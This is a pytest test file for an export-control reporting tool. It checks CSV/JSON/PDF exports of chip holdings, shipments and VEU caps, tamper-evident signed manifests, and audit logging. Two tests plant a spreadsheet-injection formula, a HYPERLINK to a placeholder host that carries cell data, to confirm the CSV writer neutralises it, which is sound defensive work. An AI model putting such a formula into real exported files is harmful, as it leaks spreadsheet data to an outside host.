"""BIS reporting exports: re-importable CSV/JSON, a readable PDF, and a signed manifest that catches changes."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import tracemalloc
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from PIL import Image
from sqlalchemy import insert, text

from agent import audit, caps, exports
from agent.exports import manifest as mf
from agent.exports.writers import csv_cell
from agent.store import session_scope
from agent.store.tables.audit import AuditEntry
from policies.packs import PackRegistry
from tests.audit.seed import seed, seed_cases

START, END = date(2026, 1, 1), date(2026, 6, 30)


@pytest.fixture()
def fleet(db_url: str, packs: PackRegistry) -> str:
    with session_scope(db_url) as s:
        seed(s, packs)
    return db_url


@pytest.fixture()
def any_fleet(store: str, packs: PackRegistry) -> str:
    """The fleet on SQLite and on PostgreSQL (server-side cursors)."""
    with session_scope(store) as s:
        seed(s, packs)
    return store


def _export(url: str, packs: PackRegistry, kind: str, out: Path, formats: list[str], **kw: Any) -> dict[str, Any]:
    with session_scope(url) as s:
        return exports.run_export(s, packs, kind, START, END, formats, out, actor="test:auditor", **kw)


def _csv(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    return rows[0], rows[1:]


def _files(m: dict[str, Any], suffix: str) -> list[str]:
    return [f["name"] for f in m["files"] if f["name"].endswith(suffix)]


def test_installed_base_export_reimports_identically_from_csv_and_json(
        any_fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
    fleet = any_fleet
    m = _export(fleet, packs, "installed-base", tmp_path / "out", ["csv", "json"])
    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
    assert doc["pack_versions"] == packs.versions() and doc["as_of"] == END.isoformat()
    for name in _files(m, ".csv"):
        table = next(t for t in doc["tables"] if name.endswith(f"_{t}.csv"))
        header, rows = _csv(tmp_path / "out" / name)
        assert header == doc["tables"][table]["columns"]
        assert rows == [[str(csv_cell(r[c])) for c in header] for r in doc["tables"][table]["rows"]], table
    # The figures are the caps engine's: holdings TPP adds up to its total, cap rows are its caps.
    with session_scope(fleet) as s:
        base = caps.placements(s, packs, END)
        total = caps.summarize(packs, base, END)["total_tpp"]
        expected_caps = {(a.name, c.id) for a in caps.list_authorizations(s)
                         for c in caps.caps_for(s, packs, a.name, END, base=base)}
    holdings = doc["tables"]["holdings"]["rows"]
    assert sum(r["tpp"] for r in holdings if r["eccn"] == "3A090.a") == pytest.approx(total)
    assert {(r["authorization"], r["cap"]) for r in doc["tables"]["caps"]["rows"]} == expected_caps
    single = next(r for r in doc["tables"]["caps"]["rows"] if r["cap"] == "uveu.single_country.AE.owned")
    assert single["ok"] is False and single["headroom_tpp"] < 0  # 96 H100 in the UAE exceed the 7% cap
    detail = {r["external_id"]: r for r in doc["tables"]["holding_detail"]["rows"]}
    assert set(detail) == {"h-us-1", "h-us-2", "h-de-1", "h-ae-1", "h-move-1"}  # h-dead-1 retired in April
    assert detail["h-move-1"]["country"] == "AE"


def test_manifest_signature_verifies_and_fails_when_a_file_changes(
        fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
    m = _export(fleet, packs, "shipments", tmp_path / "out", ["csv", "json", "pdf"])
    path = Path(m["manifest"])
    assert mf.verify(path) == []
    listed = {f["name"] for f in m["files"]}
    assert {p.name for p in (tmp_path / "out").iterdir()} == listed | {path.name}  # nothing half-written left behind
    victim = tmp_path / "out" / _files(m, "_shipments.csv")[0]
    victim.write_text(victim.read_text().replace("AE", "SA", 1))
    assert mf.verify(path) == [f"{victim.name}: SHA-256 differs from the manifest (file changed)"]


def test_manifest_edited_to_match_a_changed_file_fails_its_signature(
        fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
    m = _export(fleet, packs, "transfers", tmp_path / "out", ["json"])
    path = Path(m["manifest"])
    data = json.loads(path.read_text())
    data["pack_versions"]["ai-diffusion-2025"] = "forged"
    path.write_text(json.dumps(data))
    assert any("signature does not verify" in p for p in mf.verify(path))


def test_manifest_resigned_with_another_key_is_untrusted(
        fleet: str, packs: PackRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        signing_key_file: Path) -> None:
    monkeypatch.setenv("VEU_SIGNING_KEY_FILE", str(tmp_path / "mallory.key"))
    m = _export(fleet, packs, "transfers", tmp_path / "out", ["json"])
    monkeypatch.setenv("VEU_SIGNING_KEY_FILE", str(signing_key_file))
    assert any("untrusted key" in p for p in mf.verify(Path(m["manifest"])))


def test_inter_country_transfer_new_sites_and_attrition_with_notice_dates(
        fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
    m = _export(fleet, packs, "transfers", tmp_path / "out", ["json"])
    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
    days = packs.value("veu-notices", "inter_country_transfer_notice_days", END)
    [move] = doc["tables"]["transfers"]["rows"]
    assert (move["from_country"], move["to_country"], move["kind"]) == ("DE", "AE", "inter-country")
    assert move["date"] == "2026-03-02" and move["notice_days"] == days
    assert date.fromisoformat(move["notice_due_by"]) == date(2026, 3, 2) - timedelta(days)
    assert move["to_tier"] == 2 and move["from_tier"] == 1
    assert {r["site"] for r in doc["tables"]["new_sites"]["rows"]} == {"fra-1", "iad-1", "auh-1"}
    assert [r["external_id"] for r in doc["tables"]["attrition"]["rows"]] == ["h-dead-1"]


def test_shipments_ledger_against_tier2_allocation_and_lpp(fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
    m = _export(fleet, packs, "shipments", tmp_path / "out", ["json"])
    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
    rows = doc["tables"]["shipments"]["rows"]
    assert [(r["via"], r["destination"], r["count"]) for r in rows] == [("nveu", "AE", 64.0), ("lpp", "AE", 100.0)]
    assert rows[0]["authorization"] == "NVEU-GA-1" and rows[1]["tpp"] == pytest.approx(100 * rows[1]["tpp_each"])
    with session_scope(fleet) as s:
        expected = {c.id for c in caps.allocation_caps(s, packs, END)}
    assert {r["cap"] for r in doc["tables"]["caps"]["rows"]} == expected
    per_year = {(r["consignee"], r["year"], r["via"]): r for r in doc["tables"]["consignee_year"]["rows"]}
    assert per_year[("Gulf AI", 2026, "lpp")]["tpp"] == pytest.approx(rows[1]["tpp"])
    assert per_year[("Gulf AI", 2026, "nveu")]["count"] == 64


def test_export_is_recorded_in_the_audit_trail_with_its_file_hashes(
        fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
    m = _export(fleet, packs, "installed-base", tmp_path / "out", ["csv"])
    with session_scope(fleet) as s:
        row = s.execute(text("SELECT actor, payload FROM audit_entry WHERE action = 'export.create'")).one()
        assert audit.verify_chain(s).ok
    assert row[0] == "test:auditor"
    assert json.loads(row[1])["files"] == {f["name"]: f["sha256"] for f in m["files"]}
    assert m["audit_head"]["seq"] >= 1


def test_export_kind_whose_source_is_missing_fails_with_a_clear_message(
        db_url: str, packs: PackRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(exports.KINDS, "red-flags", ("red_flags", "agent.not_built_yet"))
    with pytest.raises(exports.ExportUnavailable, match=r"agent\.not_built_yet is not part of this build"):
        _export(db_url, packs, "red-flags", tmp_path / "out", ["csv"])
    with pytest.raises(exports.ExportError, match="not an export kind"):
        _export(db_url, packs, "everything", tmp_path / "out", ["csv"])
    assert not (tmp_path / "out").exists()


def test_failed_export_leaves_no_files_and_no_audit_entry(
        db_url: str, packs: PackRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with session_scope(db_url) as s:
        seed(s, packs)
    import agent.exports.pdf as pdf

    def boom(*_a: Any, **_k: Any) -> Any:
        raise RuntimeError("disk full")

    monkeypatch.setattr(pdf, "write_pdf", boom)
    with pytest.raises(RuntimeError):
        _export(db_url, packs, "shipments", tmp_path / "out", ["csv", "json", "pdf"])
    assert list((tmp_path / "out").iterdir()) == []
    with session_scope(db_url) as s:
        assert s.execute(text("SELECT COUNT(*) FROM audit_entry WHERE action='export.create'")).scalar() == 0
    with pytest.raises(exports.ExportError, match="--from"), session_scope(db_url) as s:
        exports.run_export(s, packs, "shipments", END, START, ["csv"], tmp_path, actor="t")


def _pages_png(pdf: Path, out: Path) -> list[Path]:
    subprocess.run(["pdftoppm", "-r", "40", "-png", str(pdf), str(out / "page")], check=True, timeout=60)
    return sorted(out.glob("page-*.png"))


def _ink(png: Path) -> float:
    img = Image.open(png).convert("L")
    hist = img.histogram()
    return 1 - sum(hist[240:]) / (img.width * img.height)


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="apt poppler-utils provides pdftoppm")
def test_pdf_report_has_a_title_page_tables_and_cap_charts(db_url: str, packs: PackRegistry, tmp_path: Path) -> None:
    with session_scope(db_url) as s:
        seed(s, packs)
    m = _export(db_url, packs, "installed-base", tmp_path / "out", ["pdf"])
    pdf = tmp_path / "out" / _files(m, ".pdf")[0]
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    n_pages = int(next(line.split()[-1] for line in info.splitlines() if line.startswith("Pages:")))
    pages = _pages_png(pdf, tmp_path)
    assert len(pages) == n_pages >= 3
    assert all(_ink(p) > 0.01 for p in pages), [(_ink(p), p.name) for p in pages]
    words = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                           check=True).stdout
    assert "Installed base and VEU cap positions" in words and "Cap utilisation" in words
    assert "UNCONFIRMED" in words and "uveu.single_country.AE" in words and "fra-1" in words


def test_large_export_streams_in_bounded_memory(db_url: str, packs: PackRegistry, tmp_path: Path) -> None:
    n = 6_000
    with session_scope(db_url) as s:
        audit.record(s, actor="t", action="seed", subject="x", payload={})
        ts = datetime(2026, 2, 1, tzinfo=UTC)
        s.execute(insert(AuditEntry), [
            {"seq": i, "ts": ts, "actor": "collector:aws", "action": "holding.update", "subject": f"holding:{i}",
             "payload": json.dumps({"i": i, "pad": "x" * 2500}), "prev_hash": "0" * 64, "hash": "f" * 64}
            for i in range(2, n + 2)])
    tracemalloc.start()
    m = _export(db_url, packs, "audit-log", tmp_path / "out", ["csv", "json"])
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert [f["rows"] for f in m["files"]] == [n, n]
    total = sum(f["bytes"] for f in m["files"])
    assert total > 25_000_000 and peak < 8_000_000, (total, peak)  # peak far below the data written


def test_api_download_returns_the_files_and_a_manifest_that_verifies(
        db_url: str, packs: PackRegistry, tmp_path: Path) -> None:
    from agent.api.app import create_app

    with session_scope(db_url) as s:
        seed(s, packs)
    client = TestClient(create_app(db_url))
    r = client.get("/api/v1/exports/shipments", params={"from": "2026-01-01", "to": "2026-06-30",
                                                        "format": ["csv", "json"]})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        z.extractall(tmp_path)
    manifest = tmp_path / r.headers["x-export-manifest"]
    assert mf.verify(manifest) == []
    assert len(list(tmp_path.glob("*.csv"))) == 3 and len(list(tmp_path.glob("*.json"))) == 2  # + manifest
    assert client.get("/api/v1/exports/nope", params={"from": "2026-01-01", "to": "2026-01-02"}).status_code == 404
    bad = client.get("/api/v1/exports/shipments", params={"from": "2026-02-30", "to": "2026-06-30"})
    assert bad.status_code == 422
    v = client.get("/api/v1/audit/verify").json()
    assert v["ok"] is True and v["last_seq"] >= 5
    kinds = {k["kind"]: k["available"] for k in client.get("/api/v1/exports").json()}
    assert kinds["installed-base"] and kinds["shipments"]
    log = client.get("/api/v1/audit/log", params={"action": "export.create"}).json()
    assert log and log[0]["actor"] == "anonymous:anonymous"


def test_veuctl_export_and_verify_export(db_url: str, packs: PackRegistry, tmp_path: Path, veuctl) -> None:  # type: ignore[no-untyped-def]
    with session_scope(db_url) as s:
        seed(s, packs)
    rc, out, err = veuctl("export", "installed-base", "--from", "2026-01-01", "--to", "2026-06-30", "--format",
                          "csv,json", "--out", str(tmp_path / "x"), "--json")
    assert rc == 0, err
    manifest = json.loads(out)["manifest"]
    rc, out, _ = veuctl("audit", "verify-export", manifest)
    assert rc == 0 and "OK" in out
    next((tmp_path / "x").glob("*_caps.csv")).write_text("tampered\n")
    rc, out, _ = veuctl("audit", "verify-export", manifest)
    assert rc == 1 and "_caps.csv: SHA-256 differs" in out
    rc, _, err = veuctl("export", "installed-base", "--from", "2026-07-01", "--to", "2026-06-30", "--out",
                        str(tmp_path / "y"))
    assert rc == 2 and err.count("\n") == 1 and "--from" in err
    env = {**os.environ, "VEU_DATABASE_URL": db_url}  # the real binary: exit status 2, one line
    r = subprocess.run([sys.executable, "-m", "agent", "export", "red-flags-x", "--from", "2026-01-01", "--to",
                        "2026-06-30", "--out", str(tmp_path / "z")], capture_output=True, text=True, env=env,
                       timeout=120)
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "not an export kind" in r.stderr


def test_red_flag_register_lists_cases_with_status_on_the_report_date_and_held_jobs(
        db_url: str, packs: PackRegistry, tmp_path: Path) -> None:
    with session_scope(db_url) as s:
        seed(s, packs)
        seed_cases(s)
    m = _export(db_url, packs, "red-flags", tmp_path / "out", ["json", "pdf"])
    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
    cases = {r["model"]: r for r in doc["tables"]["cases"]["rows"]}
    # Gulf AI (HQ AE) has no decision detail here: its effective tier is read from the parties register.
    assert cases["falcon-y"]["customer_tier"] == 2 and cases["falcon-x"]["last_decision"] == "held-inquiry"
    # The answers expired on 1 May 2026: on 30 June the resolved case reads "expired".
    assert cases["falcon-x"]["status"] == "expired" and cases["falcon-x"]["export_intent"] is False
    assert cases["falcon-y"]["status"] == "open" and cases["falcon-y"]["jobs"] == ["c/ns/Job/b"]
    held = doc["tables"]["held_decisions"]["rows"]
    assert [r["code"] for r in held] == ["held-inquiry", "held-inquiry"] and all(r["case_id"] for r in held)
    assert doc["summary"]["admission decisions in period"] == 4
    assert any(p["id"] == "red-flag-28" for p in doc["provisions"])
    assert mf.verify(Path(m["manifest"])) == []


def test_red_flag_register_shows_a_case_answered_after_the_period_as_open_without_its_answers(
        db_url: str, packs: PackRegistry, tmp_path: Path) -> None:
    from sqlmodel import select

    from agent.store.tables.cases import RedFlagCase

    with session_scope(db_url) as s:
        seed(s, packs)
        seed_cases(s)
        late = s.exec(select(RedFlagCase).where(RedFlagCase.model_key == "falcon-y")).one()
        at = datetime(2026, 7, 10, 12, tzinfo=UTC)  # after the 30 June report date
        late.status, late.export_intent, late.resolved_by = "resolved", False, "token:compliance"
        late.resolved_at, late.updated_at, late.expires_at = at, at, at + timedelta(days=365)
        s.add(late)
    m = _export(db_url, packs, "red-flags", tmp_path / "out", ["json"])
    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
    row = {r["model"]: r for r in doc["tables"]["cases"]["rows"]}["falcon-y"]
    # On 30 June the inquiry was still open: the answers recorded in July were not on record then.
    assert row["status"] == "open" and row["export_intent"] is None and row["resolved_by"] == ""
    assert row["resolved_at"] is None and doc["summary"]["cases open on 2026-06-30"] == 1


def test_installed_base_export_lists_each_nveus_current_customers(
        db_url: str, packs: PackRegistry, tmp_path: Path) -> None:
    from agent import parties
    from agent.store.tables.core import Holding

    with session_scope(db_url) as s:
        seed(s, packs)
    m = _export(db_url, packs, "installed-base", tmp_path / "a", ["json"])
    doc = json.loads((tmp_path / "a" / _files(m, ".json")[0]).read_text())
    # Gulf AI's NVEU has no cluster at a data center of its own yet: the report says so instead of guessing.
    assert doc["tables"]["nveu_customers"]["rows"] == []
    assert any("NVEU-GA-1: no Kubernetes cluster" in n for n in doc["notes"])
    with session_scope(db_url) as s:
        site = parties.add_site(s, "auh-2", "AE", cluster="auh-k8s")
        gulf = parties.get_party(s, "Gulf AI")
        s.add(Holding(source="csv", external_id="h-ga-1", site_id=site.id, accelerator="h100-sxm", count=16,
                      owner_id=gulf.id, operator_id=gulf.id, first_seen=datetime(2026, 1, 5, tzinfo=UTC)))
        parties.add_party(s, "Oasis Labs", "AE", None, ["oasis"], "auh-k8s", address="1 Corniche, Abu Dhabi")
        parties.add_party(s, "Elsewhere Inc", "US", None, ["elsewhere"], "iad-k8s")  # another cluster
        parties.add_party(s, "Everywhere AI", "SG", None, ["everywhere"])  # mapped on every cluster
    m = _export(db_url, packs, "installed-base", tmp_path / "b", ["json", "csv"])
    doc = json.loads((tmp_path / "b" / _files(m, ".json")[0]).read_text())
    rows = {r["customer"]: r for r in doc["tables"]["nveu_customers"]["rows"]}
    assert set(rows) == {"Oasis Labs", "Everywhere AI"}
    assert rows["Oasis Labs"]["authorization"] == "NVEU-GA-1" and rows["Oasis Labs"]["clusters"] == "auh-k8s"
    assert rows["Oasis Labs"]["address"] == "1 Corniche, Abu Dhabi"
    assert rows["Everywhere AI"]["clusters"] == "(every cluster)"


def test_decisions_export_streams_every_decision_with_its_pack_versions(
        db_url: str, packs: PackRegistry, tmp_path: Path) -> None:
    with session_scope(db_url) as s:
        seed_cases(s)
    m = _export(db_url, packs, "decisions", tmp_path / "out", ["csv"])
    header, rows = _csv(tmp_path / "out" / _files(m, ".csv")[0])
    got = [dict(zip(header, r, strict=True)) for r in rows]
    assert [r["code"] for r in got] == ["held-inquiry", "allowed", "held-inquiry", "allowed"]
    assert json.loads(got[0]["pack_versions"]) == {"ai-diffusion-2025": "2025.01.15-r1"}
    assert got[0]["decided_at"] == "2026-02-03T09:00:00+00:00" and got[1]["allowed"] == "true"


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
        fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
    from agent import parties

    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
    with session_scope(fleet) as s:
        parties.add_party(s, evil, "AE")
        caps.add_shipment(s, packs, day=date(2026, 4, 1), consignee=evil, destination="AE", chip_name="h100-sxm",
                          count=1, via="licence", reference="@SUM(1+1)", actor="test")
    m = _export(fleet, packs, "shipments", tmp_path / "out", ["csv", "json"])
    header, rows = _csv(tmp_path / "out" / next(n for n in _files(m, ".csv") if n.endswith("_shipments.csv")))
    row = dict(zip(header, next(r for r in rows if r[header.index("via")] == "licence"), strict=True))
    assert row["consignee"] == "'" + evil and row["reference"] == "'@SUM(1+1)"
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)
    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
    assert any(r["consignee"] == evil for r in doc["tables"]["shipments"]["rows"])  # JSON keeps the value
    # Numbers stay numbers: only text is guarded.
    assert csv_cell(-5) == -5 and csv_cell(-1.5) == "-1.5"


def test_an_export_is_one_snapshot_even_while_the_store_is_written(
        store: str, packs: PackRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from agent.store.tables.cases import AdmissionDecision

    with session_scope(store) as s:
        seed_cases(s)
    write_json = exports.write_json

    def decision_committed_meanwhile(*a: Any, **k: Any) -> Any:
        with session_scope(store) as o:  # e.g. the admission webhook, between the CSV and the JSON
            o.add(AdmissionDecision(uid="late", decided_at=datetime(2026, 3, 9, tzinfo=UTC), namespace="ns",
                                    kind="Job", name="late", operation="CREATE", job_ref="c/ns/Job/late",
                                    customer_name="Gulf AI", model_key="m", code="allowed", allowed=True,
                                    chips=1.0, message="", pack_versions="{}"))
        return write_json(*a, **k)

    monkeypatch.setattr(exports, "write_json", decision_committed_meanwhile)
    m = _export(store, packs, "decisions", tmp_path / "out", ["csv", "json"])
    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
    assert [f["rows"] for f in m["files"]] == [4, 4]
    assert doc["summary"]["decisions"] == len(doc["tables"]["decisions"]["rows"]) == 4


def test_an_export_whose_audit_entry_cannot_be_written_leaves_no_files(
        fleet: str, packs: PackRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def locked(*_a: Any, **_k: Any) -> Any:
        raise RuntimeError("database is locked")

    monkeypatch.setattr(audit, "record", locked)
    with pytest.raises(RuntimeError, match="locked"):
        _export(fleet, packs, "shipments", tmp_path / "out", ["csv", "json"])
    assert list((tmp_path / "out").iterdir()) == []  # no signed manifest for an export the trail never saw


def test_installed_base_detail_keeps_the_receipt_date_of_a_holding_that_moved(
        fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
    # § 748.15(f)(1)(ii)(B): the end-user report gives the dates eligible items were received.
    m = _export(fleet, packs, "installed-base", tmp_path / "out", ["json"])
    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
    detail = {r["external_id"]: r for r in doc["tables"]["holding_detail"]["rows"]}
    assert detail["h-move-1"]["installed_since"].startswith("2026-03-02")  # at its current site since the move
    assert detail["h-move-1"]["received"].startswith("2026-01-05")  # received before it moved
    assert detail["h-us-1"]["received"].startswith("2026-01-05")


def test_semiannual_shipments_export_carries_end_user_address_and_value(
        any_fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
    """§ 748.15(f)(1)(i): per export, reexport or transfer, the end user's name and address (A), the destination
    (B), the quantity (C), the value (D) and the ECCN (E): every one a column of the shipments table, in the CSV,
    the JSON and the PDF. A value or address never recorded is an empty cell (None in JSON), not 0."""
    from agent import parties

    address = "Hub71, Al Khatem Tower, Abu Dhabi Global Market Square, Abu Dhabi, UAE"
    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
    with session_scope(any_fleet) as s:
        parties.add_party(s, "Gulf AI", "AE", address=address)  # an update: keeps the rest
        parties.add_party(s, "Cedar Labs", "AE", address=evil)
        caps.add_shipment(s, packs, day=date(2026, 6, 1), consignee="Gulf AI", destination="AE",
                          chip_name="h100-sxm", count=16, via="licence", reference="D123456", value_usd=480000.0,
                          actor="test")
        caps.add_shipment(s, packs, day=date(2026, 6, 2), consignee="Cedar Labs", destination="AE",
                          chip_name="h100-sxm", count=1, via="licence", value_usd=0, actor="test")
    formats = ["csv", "json", "pdf"] if shutil.which("pdftotext") else ["csv", "json"]
    m = _export(any_fleet, packs, "shipments", tmp_path / "out", formats)
    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
    table = doc["tables"]["shipments"]
    for col in ("consignee", "consignee_address", "destination", "count", "value_usd", "eccn"):
        assert col in table["columns"], col
    got = [(r["consignee"], r["consignee_address"], r["count"], r["value_usd"], r["eccn"]) for r in table["rows"]]
    assert got == [("Gulf AI", address, 64.0, None, "3A090.a"), ("Gulf AI", address, 100.0, None, "3A090.a"),
                   ("Gulf AI", address, 16.0, 480000.0, "3A090.a"), ("Cedar Labs", evil, 1.0, 0.0, "3A090.a")]
    assert doc["summary"]["value usd (recorded)"] == 480000.0
    assert doc["summary"]["shipments without a recorded value"] == 2
    assert any("no recorded value" in n for n in doc["notes"])
    header, rows = _csv(tmp_path / "out" / next(n for n in _files(m, ".csv") if n.endswith("_shipments.csv")))
    assert header == table["columns"]
    by_id = {r[header.index("id")]: dict(zip(header, r, strict=True)) for r in rows}
    first, worth, gift = (by_id[str(x["id"])] for x in (table["rows"][0], table["rows"][2], table["rows"][3]))
    assert first["consignee_address"] == address and first["value_usd"] == ""
    assert worth["value_usd"] == "480000.0" and gift["value_usd"] == "0.0"
    assert gift["consignee_address"] == "'" + evil  # CSV injection: shown as text, never run
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)
    if "pdf" in formats:
        pdf = tmp_path / "out" / _files(m, ".pdf")[0]
        words = subprocess.run(["pdftotext", "-raw", str(pdf), "-"], capture_output=True, text=True,
                               check=True).stdout
        assert "consignee_address" in words and "value_usd" in words
        assert "Khatem" in words and "480,000" in words


def test_installed_base_covers_the_reporting_period_and_counts_the_holdings_received_in_it(
        fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
    # The snapshot is the end of the period; the period is the one asked for (--from was ignored: the files
    # were named and dated <to>_<to>), and the period's receipts are counted.
    m = _export(fleet, packs, "installed-base", tmp_path / "all", ["json"])
    doc = json.loads((tmp_path / "all" / _files(m, ".json")[0]).read_text())
    assert doc["period"] == {"from": "2026-01-01", "to": "2026-06-30"}
    assert _files(m, ".json")[0].startswith("installed-base_2026-01-01_2026-06-30")
    in_force = len(doc["tables"]["holding_detail"]["rows"])
    assert in_force > 0 and doc["summary"]["holdings received in period"] == in_force
    with session_scope(fleet) as s:
        later = exports.run_export(s, packs, "installed-base", date(2026, 2, 1), END, ["json"], tmp_path / "later",
                                   actor="test:auditor")
    doc = json.loads((tmp_path / "later" / _files(later, ".json")[0]).read_text())
    assert doc["summary"]["holdings received in period"] == 0  # all received on 2026-01-05
    assert len(doc["tables"]["holding_detail"]["rows"]) == in_force  # the same snapshot on 2026-06-30
